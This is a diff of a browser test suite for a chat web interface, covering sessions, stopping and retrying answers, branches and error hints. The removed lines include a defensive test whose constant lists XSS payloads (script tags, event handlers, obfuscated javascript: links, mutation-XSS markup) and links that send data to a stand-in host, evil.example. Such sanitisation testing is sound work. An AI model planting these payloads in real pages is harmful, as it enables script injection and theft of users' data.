@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import Browser, expect
 
-from browser.conftest import Watched, new_context
+from browser.conftest import Watched, new_context, read_json
 from gateway.server_process import Served, served
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
@@ -35,28 +35,7 @@ print("<b>not bold</b>")
 - [x] bought
 - [ ] sold
 """
-HOSTILE = """
-<script>alert(1)</script>
-
-<img src=x onerror=alert(2)> <svg onload=alert(3)> <iframe src="javascript:alert(4)"></iframe>
-
-[a](javascript:alert(5)) [b](JaVaScRiPt:alert(6)) [c](data:text/html,<script>alert(7)</script>) [d](vbscript:x)
-[e](&#106;avascript:alert(8)) [f]( javascript:alert(9)) [g](//evil.example/x) [h](/web/app.js)
-
-![stolen](https://evil.example/?d=secret) <a href="https://evil.example" onclick="alert(10)">x</a>
-
-<style>body{background:url(https://evil.example/b)}</style> <form action="https://evil.example"><input></form>
-
-`<img src=x onerror=alert(11)>`
-
-```html
-<script>alert(12)</script>
-```
-
-<math><mtext></form><form><mglyph><style></math><img src onerror=alert(13)>
-
-Harmless end.
-"""
+STOPPED = "This answer was stopped before it was complete."
 
 
 def _turn(text: str) -> str:
@@ -81,30 +60,30 @@ def test_a_question_is_answered_with_the_help_of_a_tool(watched: Watched, shots:
 
 
 def test_a_conversation_goes_on(watched: Watched) -> None:
-    """The second question continues the first response."""
+    """The second question is asked in the same session, and the server knows what was said before."""
     page = watched.open()
-    bodies: list[dict[str, str]] = []
-    page.on("request", lambda request: bodies.append(request.post_data_json) if request.method == "POST" else None)
     watched.ask(QUESTION)
     expect(page.get_by_role("button", name="Copy answer")).to_have_count(1)
     watched.ask("Add 2 and 3")
     expect(page.get_by_role("button", name="Copy answer")).to_have_count(2)
     expect(page.locator(".prose").last).to_contain_text("5")
-    assert "previous_response_id" not in bodies[0]
-    assert bodies[1]["previous_response_id"].startswith("resp_")
-    assert bodies[1]["model"] == "demo"
+    session = page.evaluate("location.hash.slice(1)")
+    first, second = read_json(watched.server, f"/treadle/v1/sessions/{session}/turns")["turns"]
+    assert (second["previous_id"], second["model"]) == (first["run_id"], "demo")
 
 
 def test_chats_are_listed_and_kept_apart(watched: Watched) -> None:
-    """A new chat begins empty; the old one is still there to go back to."""
+    """A new chat begins empty; the old one is still there to go back to, also by the browser's own button."""
     page = watched.open()
-    watched.ask(QUESTION)
+    watched.ask("Add 20 and 30")
     expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
-    page.get_by_role("navigation").get_by_role("button", name="New chat").first.click()
+    page.get_by_role("navigation").get_by_role("button", name="New chat").click()
     expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
-    page.get_by_role("navigation").get_by_role("button", name=QUESTION, exact=True).click()
-    expect(page.locator(".question")).to_have_text(QUESTION)
-    expect(page.locator(".prose")).to_contain_text("Paris")
+    page.get_by_role("navigation").get_by_role("link", name="Add 20 and 30").first.click()
+    expect(page.locator(".question")).to_have_text("Add 20 and 30")
+    expect(page.locator(".prose")).to_contain_text("50")
+    page.go_back()
+    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
 
 
 def test_keys_send_break_lines_and_stop(browser: Browser, tmp_path: Path) -> None:
@@ -122,14 +101,13 @@ def test_keys_send_break_lines_and_stop(browser: Browser, tmp_path: Path) -> Non
         expect(field).to_have_value("")
         expect(page.locator("details.tool")).to_be_visible()
         page.keyboard.press("Escape")
-        expect(page.get_by_text("You stopped this answer.")).to_be_visible()
-        with server.connect() as connection:
-            connection.request("GET", "/treadle/v1/runs?status=cancelled")
-            assert len(json.loads(connection.getresponse().read())["runs"]) == 1
+        expect(page.get_by_text(STOPPED)).to_be_visible()
+        assert len(read_json(server, "/treadle/v1/runs?status=cancelled")["runs"]) == 1
         seen.ask("Add 2 and 3")
+        expect(page.locator("details.tool")).to_have_count(2)
         page.get_by_role("button", name="Stop").click()
-        expect(page.get_by_text("You stopped this answer.")).to_have_count(2)
-        expect(page.get_by_role("button", name="Try again")).to_have_count(1)
+        expect(page.get_by_text(STOPPED)).to_have_count(2)
+        expect(page.get_by_role("button", name="Try again")).to_have_count(2)
         context.close()
         assert (seen.complaints, seen.strays) == ([], [])
 
@@ -145,7 +123,7 @@ def test_stop_leaves_a_draft_alone(browser: Browser, tmp_path: Path) -> None:
         field = page.get_by_label("Your question")
         field.fill("a thought not finished")
         page.get_by_role("button", name="Stop").click()
-        expect(page.get_by_text("You stopped this answer.")).to_be_visible()
+        expect(page.get_by_text(STOPPED)).to_be_visible()
         expect(page.get_by_role("button", name="Send")).to_be_visible()
         expect(field).to_have_value("a thought not finished")
         expect(field).to_be_focused()
@@ -211,74 +189,49 @@ def test_code_is_coloured_once_it_is_whole(browser: Browser, tmp_path: Path, sho
 
 
 def test_calls_side_by_side_show_their_own_durations(watched: Watched) -> None:
-    """A stream tells of them one after the other, so the journal says how long each took."""
+    """Each card says how long its own call took, as the journal has it."""
     page = watched.open()
     watched.ask("What is the weather in Paris and in Oslo?")
     states = page.locator("details.tool .state")
     expect(states).to_have_text([re.compile(r"^done in \d+ ms$")] * 2)
-    with watched.server.connect() as connection:
-        connection.request("GET", "/treadle/v1/runs?limit=1")
-        run_id = json.loads(connection.getresponse().read())["runs"][0]["id"]
-        connection.request("GET", f"/treadle/v1/runs/{run_id}")
-        entries = json.loads(connection.getresponse().read())["entries"]
+    run_id = read_json(watched.server, "/treadle/v1/runs?limit=1")["runs"][0]["id"]
+    entries = read_json(watched.server, f"/treadle/v1/runs/{run_id}")["entries"]
     took = {entry["call_id"]: entry["data"]["duration_s"] for entry in entries if entry["kind"] == "tool_result"}
     calls = [entry["call_id"] for entry in entries if entry["kind"] == "tool_call"]
     assert states.all_text_contents() == [f"done in {max(1, round(took[call] * 1000))} ms" for call in calls]
 
 
-def test_hostile_text_is_only_text(browser: Browser, tmp_path: Path) -> None:
-    """Nothing runs, nothing is fetched from elsewhere, no element is made of it, and the policy has no work."""
-    with served(tmp_path, script=_turn(HOSTILE)) as server:
-        context = new_context(browser)
-        seen = Watched(context.new_page(), server)
-        page = seen.open()
-        seen.ask("<img src=x onerror=alert(0)>")
-        expect(page.locator(".prose")).to_contain_text("Harmless end.")
-        expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
-        made = page.locator(".turns").locator(
-            "script, img, svg, iframe, style, form, input, math, [onclick], [onerror]"
-        )
-        expect(made).to_have_count(0)
-        hrefs = [link.get_attribute("href") for link in page.locator(".prose a").all()]
-        assert hrefs == ["https://evil.example/?d=secret"]
-        expect(page.locator(".prose")).to_contain_text("<script>alert(1)</script>")
-        expect(page.locator(".question")).to_have_text("<img src=x onerror=alert(0)>")
-        context.close()
-        assert (seen.complaints, seen.strays) == ([], [])
-
-
 def test_a_failure_says_what_to_do_and_can_be_tried_again(browser: Browser, tmp_path: Path) -> None:
-    """The provider's refusal is shown with advice; the second try succeeds and leaves no trace of the first."""
-    script = '[[script]]\n[script.faults]\nstatus = 429\nmessage = "Too many requests"\n' + _turn("Now it works.")
+    """The provider's refusal is shown; the second try is another branch of the same question, and both stay."""
+    script = '[[script]]\n[script.faults]\nstatus = 400\nmessage = "No such thing"\n' + _turn("Now it works.")
     with served(tmp_path, script=script) as server:
         context = new_context(browser)
         seen = Watched(context.new_page(), server)
         page = seen.open()
         seen.ask("hello")
-        expect(page.get_by_role("alert")).to_contain_text("Too many requests")
-        expect(page.get_by_role("alert")).to_contain_text("Wait a moment")
+        expect(page.get_by_role("alert")).to_contain_text("No such thing")
         page.get_by_role("button", name="Try again").click()
         expect(page.locator(".prose")).to_have_text("Now it works.")
         expect(page.locator(".question")).to_have_count(1)
+        expect(page.get_by_role("group", name="Branches")).to_contain_text("2 / 2")
+        page.get_by_role("button", name="Branch before").click()
+        expect(page.get_by_role("alert")).to_contain_text("No such thing")
         context.close()
-        assert seen.strays == []
+        assert (seen.complaints, seen.strays) == ([], [])
 
 
-@pytest.mark.parametrize(
-    ("message", "lines"),
-    [
-        ("No key for gpt. Set OPENAI_API_KEY.", ["No key for gpt.", "Set OPENAI_API_KEY."]),
-        ("Slow down", ["Slow down", "The model is busy. Wait a moment, then try again."]),
-    ],
-    ids=["with a hint", "without"],
-)
-def test_an_error_and_its_hint_are_two_lines(watched: Watched, message: str, lines: list[str]) -> None:
-    """The envelope has one field for both; the page adds advice of its own only where the server gives none."""
+def test_a_refused_question_stays_and_can_be_sent_again(watched: Watched) -> None:
+    """What the server would not take is shown with its advice, and nothing that was written is lost."""
     page = watched.open()
-    body = json.dumps({"error": {"message": message, "type": "rate_limit_error", "code": None, "param": None}})
-    page.route("**/v1/responses", lambda route: route.fulfill(status=429, body=body, content_type="application/json"))
-    watched.ask("hello")
-    expect(page.get_by_role("alert").locator("p")).to_have_text(lines)
+    body = json.dumps({"error": {"message": "Slow down.", "hint": "Wait a minute.", "code": "x", "param": None}})
+    page.route("**/turns?*", lambda route: route.fulfill(status=429, body=body, content_type="application/json"))
+    watched.ask("Add 4 and 4")
+    expect(page.get_by_role("alert").locator("p")).to_have_text(["Slow down.", "Wait a minute."])
+    page.unroute("**/turns?*")
+    page.get_by_role("button", name="Try again").click()
+    expect(page.locator(".prose")).to_contain_text("8")
+    expect(page.locator(".question")).to_have_text(["Add 4 and 4"])
+    assert all("429" in complaint for complaint in watched.complaints)
     watched.complaints.clear()
 
 
@@ -306,7 +259,7 @@ def test_a_phone_shows_everything_in_one_column(browser: Browser, server: Served
     page.locator("details.tool summary").click()
     assert page.evaluate("[document.documentElement.scrollWidth, innerWidth]") == [390, 390]
     page.screenshot(path=shots / f"phone-{'dark' if dark else 'light'}.png")
-    page.get_by_role("button", name="Conversations").click()
+    page.get_by_role("button", name="Chats").click()
     expect(page.get_by_role("navigation")).to_be_visible()
     page.keyboard.press("Escape")
     expect(page.get_by_role("navigation")).to_be_hidden()
@@ -324,7 +277,7 @@ def test_the_screen_reader_hears_sentences(watched: Watched) -> None:
 def test_a_wrong_address_leads_back(watched: Watched) -> None:
     """The page for what is not there is styled and has the way to what is."""
     page = watched.page
-    page.goto(f"{watched.server.url}/console")
+    page.goto(f"{watched.server.url}/nowhere")
     watched.complaints.clear()
     page.get_by_role("link", name="Open the chat").click()
     expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
